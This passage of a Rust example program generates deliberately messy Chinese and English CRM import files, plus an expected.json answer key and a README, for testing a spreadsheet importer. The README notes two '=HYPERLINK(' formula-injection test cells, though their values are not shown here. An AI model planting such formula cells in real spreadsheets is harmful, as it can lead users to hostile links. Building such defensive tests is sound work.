                    (L_EMAIL, _) => match rng.random_range(0..3) {
                        0 => format!("{}.{domain}", e.local),
                        1 => format!("{}#{domain}", e.local),
                        _ => format!("{} at {domain}", e.local),
                    },
                    (L_SOURCE, _) => pick(rng, &["地推", "电话营销", "Cold call"]).to_string(),
                    (L_INDUSTRY, _) => pick(rng, &["火星采矿", "航天军工"]).to_string(),
                    (L_REGION, _) => pick(rng, &["东北", "Northeast"]).to_string(),
                    (L_STATUS, _) => pick(rng, &["跟进中", "Pending"]).to_string(),
                    (L_EMPLOYEES, _) => pick(rng, &["约50", "约200", "几十人"]).to_string(),
                    (L_BUDGET, _) => pick(rng, &["面议", "待定", "5万左右"]).to_string(),
                    (L_VISITS, _) => pick(rng, &["很多", "十几次", "多次"]).to_string(),
                    (L_FIRST_AT, _) => pick(
                        rng,
                        &[
                            "2024-13-45 10:00",
                            "2024/2/30 14:00",
                            "2025年13月1日 09:00",
                            "2024-04-31 09:30",
                            "2023-02-29 10:00",
                        ],
                    )
                    .to_string(),
                    _ => pick(
                        rng,
                        &[
                            "智联CRM 旗舰版（年度订阅）",
                            "智联CRM 免费版",
                            "数据采集网关 GW-200",
                        ],
                    )
                    .to_string(),
                };
                out.rows.push(cells);
                out.truth.push(Truth::rejected(col, reason));
            }
        }
    }
    // Cells the CSV writer has to quote: a comma and double quotes, a line break, and
    // both delimiters.
    out.rows[7][L_NOTE] = "他说\"下周再联系\", 预算待批".to_string();
    out.rows[12][L_NOTE] = "需求：\n1. 报价\n2. 现场演示".to_string();
    out.rows[1500][L_NOTE] = "联系人：王先生, 李女士; 分机 8021".to_string();
    Ok(out)
}

fn csv_text(rows: &[Vec<String>], headers: &[&str], delim: char) -> String {
    let field = |s: &str| {
        if s.contains(delim) || s.contains('"') || s.contains('\n') || s.contains('\r') {
            format!("\"{}\"", s.replace('"', "\"\""))
        } else {
            s.to_string()
        }
    };
    let mut out = String::new();
    let line = |cells: Vec<String>| cells.join(&delim.to_string()) + "\r\n";
    out.push_str(&line(headers.iter().map(|h| field(h)).collect()));
    for r in rows {
        out.push_str(&line(r.iter().map(|c| field(c.as_str())).collect()));
    }
    out
}

fn gbk(text: &str) -> Res<Vec<u8>> {
    let (bytes, _, had_errors) = encoding_rs::GBK.encode(text);
    if had_errors {
        let bad: String = text
            .chars()
            .filter(|c| encoding_rs::GBK.encode(&c.to_string()).2)
            .collect();
        return Err(format!("not representable in GBK: {bad:?}").into());
    }
    Ok(bytes.into_owned())
}

// ---------------------------------------------------------------------------------
// Manifest
// ---------------------------------------------------------------------------------

fn manifest(truth: &[Truth], headers: &[&str], sheet: Option<&str>) -> Res<Value> {
    let count = |k: Kind| truth.iter().filter(|t| t.kind == k).count();
    let mut rejected = Vec::new();
    for (i, t) in truth.iter().enumerate() {
        if let Some((col, reason)) = t.reject {
            rejected.push(json!({
                "row": i + 2,
                "column": headers.get(col).ok_or("bad column")?,
                "reason": reason,
            }));
        }
    }
    let mut m = serde_json::Map::new();
    if let Some(s) = sheet {
        m.insert("sheet".into(), json!(s));
    }
    m.insert("rows".into(), json!(truth.len()));
    m.insert("created".into(), json!(count(Kind::Created)));
    m.insert("merged".into(), json!(count(Kind::Merged)));
    m.insert("flagged".into(), json!(count(Kind::Flagged)));
    m.insert("skipped".into(), json!(count(Kind::Skipped)));
    m.insert("rejected".into(), json!(count(Kind::Rejected)));
    m.insert("rejected_rows".into(), Value::Array(rejected));
    let total: usize = [
        Kind::Created,
        Kind::Merged,
        Kind::Flagged,
        Kind::Skipped,
        Kind::Rejected,
    ]
    .iter()
    .map(|k| count(*k))
    .sum();
    if total != truth.len() {
        return Err("counts do not add up".into());
    }
    Ok(Value::Object(m))
}

// ---------------------------------------------------------------------------------
// Verification: read the files back and replay the duplicate rules on them
// ---------------------------------------------------------------------------------

/// The keys the importer matches by: the platform's own normalization, so the replay
/// below checks the data against what a real import does.
fn company_key(s: &str) -> Option<String> {
    normalize(Matcher::Company, s, DEFAULT_COUNTRY)
}

fn phone_key(s: &str) -> Option<String> {
    normalize(Matcher::Phone, s, DEFAULT_COUNTRY)
}

fn email_key(s: &str) -> Option<String> {
    normalize(Matcher::Email, s, DEFAULT_COUNTRY)
}

/// Replays the import: `keys[i]` are the row's (first rule, second rule) keys. Returns
/// the outcome of each row. `first_merges`: a match on the first rule merges (customers)
/// rather than skips (leads).
fn replay(
    keys: &[(Option<String>, Option<String>)],
    truth: &[Truth],
    existing: &[(Option<String>, Option<String>)],
    first_merges: bool,
) -> Vec<Kind> {
    let mut first: HashMap<String, usize> = HashMap::new();
    let mut second: HashMap<String, usize> = HashMap::new();
    let mut records: Vec<Option<String>> = Vec::new();
    fn add(
        k1: &Option<String>,
        k2: &Option<String>,
        first: &mut HashMap<String, usize>,
        second: &mut HashMap<String, usize>,
        records: &mut Vec<Option<String>>,
    ) {
        let id = records.len();
        records.push(k2.clone());
        if let Some(k) = k1 {
            first.entry(k.clone()).or_insert(id);
        }
        if let Some(k) = k2 {
            second.entry(k.clone()).or_insert(id);
        }
    }
    for (k1, k2) in existing {
        add(k1, k2, &mut first, &mut second, &mut records);
    }
    let mut out = Vec::with_capacity(keys.len());
    for ((k1, k2), t) in keys.iter().zip(truth) {
        if t.kind == Kind::Rejected {
            out.push(Kind::Rejected);
            continue;
        }
        if let Some(&id) = k1.as_ref().and_then(|k| first.get(k)) {
            if first_merges {
                // The merge fills the record's empty phone from the row.
                if let (None, Some(k)) = (&records[id], k2) {
                    records[id] = Some(k.clone());
                    second.entry(k.clone()).or_insert(id);
                }
                out.push(Kind::Merged);
            } else {
                out.push(Kind::Skipped);
            }
            continue;
        }
        let flagged = k2.as_ref().is_some_and(|k| second.contains_key(k));
        add(k1, k2, &mut first, &mut second, &mut records);
        out.push(if flagged {
            Kind::Flagged
        } else {
            Kind::Created
        });
    }
    out
}

/// Invalid rows share no key with any other row or with the demo data.
fn check_isolated(
    what: &str,
    keys: &[(Option<String>, Option<String>)],
    truth: &[Truth],
    existing: &[(Option<String>, Option<String>)],
) -> Res<()> {
    let mut count: HashMap<&str, usize> = HashMap::new();
    for (a, b) in keys.iter().chain(existing) {
        for k in [a, b].into_iter().flatten() {
            *count.entry(k.as_str()).or_default() += 1;
        }
    }
    for (i, ((a, b), t)) in keys.iter().zip(truth).enumerate() {
        if t.kind != Kind::Rejected {
            continue;
        }
        for k in [a, b].into_iter().flatten() {
            if count.get(k.as_str()).copied().unwrap_or(0) != 1 {
                return Err(format!("{what}: invalid row {} shares the key {k:?}", i + 2).into());
            }
        }
    }
    Ok(())
}

/// Merged and skipped rows have the first rule's key of the row they repeat; flagged
/// rows the second rule's key of the row they share a phone with.
fn check_links(what: &str, keys: &[(Option<String>, Option<String>)], truth: &[Truth]) -> Res<()> {
    for (i, t) in truth.iter().enumerate() {
        let Some(j) = t.same_as else { continue };
        let (a, b) = (&keys[i], &keys[j]);
        let ok = match t.kind {
            Kind::Merged | Kind::Skipped => a.0.is_some() && a.0 == b.0,
            Kind::Flagged => a.1.is_some() && a.1 == b.1 && truth[j].kind != Kind::Rejected,
            _ => false,
        };
        if !ok || j >= i {
            return Err(format!("{what}: row {} does not match row {}", i + 2, j + 2).into());
        }
    }
    Ok(())
}

fn compare(what: &str, sim: &[Kind], truth: &[Truth]) -> Res<()> {
    let bad: Vec<String> = sim
        .iter()
        .zip(truth)
        .enumerate()
        .filter(|(_, (s, t))| **s != t.kind)
        .map(|(i, (s, t))| format!("row {}: replay {s:?}, truth {:?}", i + 2, t.kind))
        .collect();
    if bad.is_empty() {
        Ok(())
    } else {
        Err(format!(
            "{what}: {} rows disagree: {:?}",
            bad.len(),
            &bad[..bad.len().min(10)]
        )
        .into())
    }
}

fn data_text(d: Option<&Data>) -> Option<String> {
    match d? {
        Data::String(s) => Some(s.clone()),
        Data::Float(f) => Some(format!("{f}")),
        Data::Int(i) => Some(i.to_string()),
        Data::Empty => None,
        other => Some(other.to_string()),
    }
}

fn verify_customers(path: &Path, c: &Customers, demo: &Demo) -> Res<()> {
    let mut wb: Xlsx<_> = open_workbook(path)?;
    let names = wb.sheet_names();
    if names != ["说明", "客户"] {
        return Err(format!("unexpected sheets {names:?}").into());
    }
    let range = wb.worksheet_range("客户")?;
    if range.height() != CUSTOMER_ROWS + 1 {
        return Err(format!("客户 has {} rows", range.height()).into());
    }
    for (col, h) in CUSTOMER_HEADERS.iter().enumerate() {
        if data_text(range.get_value((0, u32::try_from(col)?))).as_deref() != Some(*h) {
            return Err(format!("header {col} is not {h}").into());
        }
    }
    let mut keys = Vec::with_capacity(CUSTOMER_ROWS);
    for (i, row) in c.rows.iter().enumerate() {
        let r = u32::try_from(i + 1)?;
        for (col, cell) in row.iter().enumerate() {
            let got = range.get_value((r, u32::try_from(col)?));
            let same = match (cell, got) {
                (Cell::Empty, None | Some(Data::Empty)) => true,
                (Cell::Text(s), Some(Data::String(g))) => s == g,
                (Cell::Num(n), Some(Data::Float(g))) => n == g,
                (Cell::Num(n), Some(Data::Int(g))) => *n == *g as f64,
                _ => false,
            };
            if !same {
                return Err(
                    format!("row {} col {col}: wrote {cell:?}, read {got:?}", i + 2).into(),
                );
            }
        }
        let name = data_text(range.get_value((r, 0)));
        let phone = data_text(range.get_value((r, u32::try_from(C_PHONE)?)));
        keys.push((
            name.as_deref().and_then(company_key),
            phone.as_deref().and_then(phone_key),
        ));
    }
    let existing: Vec<_> = demo
        .customer_names
        .iter()
        .zip(&demo.customer_phones)
        .map(|(n, p)| (company_key(n), phone_key(p)))
        .collect();
    check_isolated("customers.xlsx", &keys, &c.truth, &existing)?;
    check_links("customers.xlsx", &keys, &c.truth)?;
    compare(
        "customers.xlsx",
        &replay(&keys, &c.truth, &existing, true),
        &c.truth,
    )?;
    Ok(())
}

fn verify_leads(path: &Path, l: &Leads, demo: &Demo, utf8: bool) -> Res<()> {
    let bytes = fs::read(path)?;
    let text = if utf8 {
        let body = bytes
            .strip_prefix("\u{FEFF}".as_bytes())
            .ok_or("no BOM in the UTF-8 file")?;
        String::from_utf8(body.to_vec())?
    } else {
        let (t, had_errors) = encoding_rs::GBK.decode_without_bom_handling(&bytes);
        if had_errors {
            return Err("GBK decoding failed".into());
        }
        t.into_owned()
    };
    let mut rdr = csv::ReaderBuilder::new()
        .delimiter(if utf8 { b';' } else { b',' })
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut records = Vec::new();
    for rec in rdr.records() {
        records.push(rec?);
    }
    if records.len() != LEAD_ROWS + 1 {
        return Err(format!("{} CSV records", records.len()).into());
    }
    let header: Vec<&str> = records[0].iter().collect();
    if header != LEAD_HEADERS {
        return Err(format!("unexpected header {header:?}").into());
    }
    let mut keys = Vec::with_capacity(LEAD_ROWS);
    for (i, (rec, row)) in records[1..].iter().zip(&l.rows).enumerate() {
        let got: Vec<&str> = rec.iter().collect();
        if got != *row {
            return Err(format!("row {}: wrote {row:?}, read {got:?}", i + 2).into());
        }
        keys.push((email_key(got[L_EMAIL]), phone_key(got[L_PHONE])));
    }
    let existing: Vec<_> = demo
        .lead_emails
        .iter()
        .zip(&demo.lead_phones)
        .map(|(e, p)| (email_key(e), phone_key(p)))
        .collect();
    let what = path.display().to_string();
    check_isolated(&what, &keys, &l.truth, &existing)?;
    check_links(&what, &keys, &l.truth)?;
    compare(&what, &replay(&keys, &l.truth, &existing, false), &l.truth)?;
    // The company and contact of every invalid row are unique too.
    let mut companies: HashMap<&str, usize> = HashMap::new();
    for r in &l.rows {
        *companies.entry(r[L_COMPANY].trim()).or_default() += 1;
    }
    for (i, t) in l.truth.iter().enumerate() {
        let c = l.rows[i][L_COMPANY].trim();
        if t.kind == Kind::Rejected && !c.is_empty() && companies.get(c).copied() != Some(1) {
            return Err(format!("{what}: invalid row {} shares its company", i + 2).into());
        }
    }
    Ok(())
}

/// The demo's names never appear in the generated vocabulary.
fn check_vocabulary(demo: &Demo) -> Res<()> {
    for (b, _) in BRANDS {
        if let Some(t) = demo.texts.iter().find(|t| t.contains(b)) {
            return Err(format!("brand {b} occurs in the demo ({t})").into());
        }
    }
    for avoid in [
        "华创",
        "恒通",
        "粤海",
        "云启",
        "西子",
        "滨海",
        "博远",
        "光谷",
        "天府",
        "金陵",
        "南方建材",
    ] {
        if BRANDS
            .iter()
            .any(|(b, _)| b.contains(avoid) || avoid.contains(b))
        {
            return Err(format!("brand list contains {avoid}").into());
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------
// README
// ---------------------------------------------------------------------------------

const README: &str = "# Messy CRM import data

Example input for the spreadsheet import: \"the messy spreadsheet every company starts
from\". All names, numbers and addresses are made up; nothing here duplicates the demo
data (`../demo.json`), which the import is expected to run against.

Generated (deterministically, seeded) by

    cargo run -p trellis-import --example messy_crm --release

from `crates/trellis-import/examples/messy_crm.rs`; do not edit these files by hand.

| File | What it is |
|---|---|
| `customers.xlsx` | 2,000 customer rows on the sheet `客户`, after a notes sheet `说明` |
| `leads-gbk.csv` | 3,000 lead rows as a Chinese Excel saves \"CSV\": GBK, `,`, CRLF |
| `leads-utf8.csv` | The same lead rows in UTF-8 with a BOM and `;` as the delimiter |
| `expected.json` | What a correct import produces per file: rows created, merged, flagged, skipped and rejected, and every rejected row with its column and reason |

`expected.json` comes from the generator's own bookkeeping (which rows are the same
customer or lead, which are invalid and why), not from re-implementing the cleaning.
`created` counts rows created without a duplicate flag, `flagged` rows created and
flagged, so `rows = created + merged + flagged + skipped + rejected`. Row numbers count
the header as row 1.

## The mess

- Headers: zh-CN labels mostly, some English (`Industry`, `E-mail`, `Source`,
  `Employees`), a required marker (`客户类型*`), a unit (`注册资本（元）`, `预算（元）`),
  phone aliases (`电话`, `手机号`), and an unknown column `备注` in each file.
- Select fields as zh-CN label, English label or value, in any case; cells with leading
  or trailing spaces (including the full-width space U+3000).
- Cities as 北京 / 北京市 / Beijing / BEIJING / Peking, Canton, etc.
- Phones in every format: `13800138000`, `138-0013-8000`, `138 0013 8000`,
  `+86 138-0013-8000`, `0086 13800138000`, `+8613800138000`, `010-65521234`,
  `(010) 6552-1234`, `+86 10 6552 1234`; a few mobile numbers stored as number cells.
- Money as numbers (real number cells and text), `1,000万`, `¥5,000,000`, `￥50,000`,
  `500万元`, `1.5亿`, `80,000元`, `12.5万`; employees as `1,200`.
- Booleans as 是/否, yes/no, 1/0, true/false, √/×; datetimes as `2024年3月5日 14:30`,
  `2024/3/5 9:05`, `2024-03-05 14:30:00`, `2024-03-05 14:30`, ISO with offset.
- Products of interest by name.
- Customers repeated under another spelling of the company name (with or without
  有限公司 / 股份有限公司, `Co., Ltd.` vs `Inc.`, full-width letters, extra spaces,
  different case), filling fields the first row left empty: these merge.
- Distinct customers sharing a phone written differently: flagged.
- Leads repeated with the same e-mail in other case or with spaces: skipped; leads with
  a new e-mail but an earlier lead's phone: flagged.
- Invalid rows, spread over the reasons `required`, `email`, `select`, `number`, `date`
  and `relation` (e.g. industry `火星采矿`, employees `约50`, date `2024-13-45 10:00`,
  product `智联CRM 免费版`).
- Two `=HYPERLINK(` cells (formula injection attempts, to be kept as text), CSV cells
  with a comma and double quotes, a line break, and both delimiters.
";

// ---------------------------------------------------------------------------------

fn main() -> Res<()> {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../examples/crm");
    let dir = root.join("data");
    fs::create_dir_all(&dir)?;
    let demo = load_demo(&root.join("demo.json"))?;
    check_vocabulary(&demo)?;
    let mut ctx = Ctx::new(&demo);

    let customers = generate_customers(&mut ctx)?;
    let xlsx = dir.join("customers.xlsx");
    write_customers(&xlsx, &customers)?;

    let leads = generate_leads(&mut ctx)?;
    let gbk_path = dir.join("leads-gbk.csv");
    fs::write(&gbk_path, gbk(&csv_text(&leads.rows, &LEAD_HEADERS, ','))?)?;
    let utf8_path = dir.join("leads-utf8.csv");
    let mut utf8 = "\u{FEFF}".to_string();
    utf8.push_str(&csv_text(&leads.rows, &LEAD_HEADERS, ';'));
    fs::write(&utf8_path, utf8)?;

    let lead_manifest = manifest(&leads.truth, &LEAD_HEADERS, None)?;
    let expected = json!({
        "customers.xlsx": manifest(&customers.truth, &CUSTOMER_HEADERS, Some("客户"))?,
        "leads-gbk.csv": lead_manifest.clone(),
        "leads-utf8.csv": lead_manifest,
    });
    fs::write(
        dir.join("expected.json"),
        serde_json::to_string_pretty(&expected)? + "\n",
    )?;
    fs::write(dir.join("README.md"), README)?;

    verify_customers(&xlsx, &customers, &demo)?;
    verify_leads(&gbk_path, &leads, &demo, false)?;
    verify_leads(&utf8_path, &leads, &demo, true)?;

    for (file, m) in expected.as_object().into_iter().flatten() {
        let n = |k: &str| m.get(k).and_then(Value::as_u64).unwrap_or(0);
        println!(
            "{file}: rows {} created {} merged {} flagged {} skipped {} rejected {} ({} bytes)",
            n("rows"),
            n("created"),
            n("merged"),
            n("flagged"),
            n("skipped"),
            n("rejected"),
            fs::metadata(dir.join(file))?.len()
        );
    }
    println!("wrote {}", dir.display());
    Ok(())
}
